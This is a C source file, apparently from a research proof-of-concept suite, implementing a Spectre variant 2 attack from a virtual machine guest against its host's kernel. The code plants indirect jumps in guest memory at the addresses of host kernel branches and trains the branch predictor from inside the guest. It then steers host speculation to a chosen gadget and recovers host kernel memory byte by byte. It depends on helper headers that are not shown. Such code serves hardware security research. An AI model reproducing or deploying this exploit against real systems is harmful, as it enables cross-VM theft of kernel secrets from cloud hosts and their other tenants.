/*
 * Spectre, variant 2 (Kocher et al., 2019; Horn, 2018), from a virtual machine to its host's kernel:
 * as spectre-v2, but the branch that trains the kernel's runs inside, in the guest's kernel, at the
 * very same address. What the target predictor has learned there holds when the machine has been left.
 */
#include "spectre-v2.h"

#include "machine.h"

static struct machine machine;

/* Inside: branches, how many, where they are to lead, and the pages that they lie in. */
static uint64_t branches[MOST_ADDRESSES], disclosure;
static int count;
static uint8_t pages[2 * MOST_ADDRESSES][CODE_PAGE] __attribute__((aligned(CODE_PAGE)));

static void train_inside(void)
{
	for (int i = 0; i < count; i++)
		train((const uint8_t *)branches[i], disclosure);
}

/* Has a byte inside at an address of the host's kernel. */
static void place_byte(uint64_t address, uint8_t byte)
{
	static int used;
	uint64_t *entry = machine_entry(&machine, address);

	if (!*entry)
		machine_map(&machine, address & -(uint64_t)CODE_PAGE, MACHINE_OFFSET(pages[used++]));
	machine.virtual.memory[(*entry & entry_frame) + address % CODE_PAGE] = byte;
}

/* An indirect jump by %rax whose last byte is that of a branch of the kernel. */
static void place_jump(int index, uint64_t last)
{
	place_byte(last - 1, 0xff);
	place_byte(last, 0xe0);
	IN_MACHINE(&machine, branches)[0][index] = last - 1;
}

static void choose(uint64_t address)
{
	*IN_MACHINE(&machine, disclosure) = address;
}

static int read_byte(uint64_t address)
{
	make_call_late();
	machine_run(&machine, train_inside);
	return call_with(address);
}

int main(int argc, char **argv)
{
	int times;

	parse_options(argc, argv);
	prepare_call();
	count = options.branches.count;
	machine_create(&machine);
	for (int i = 0; i < count; i++)
		place_jump(i, options.branches.at[i]);
	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
	recover(sample, patience_if(times), 1);
	return 0;
}
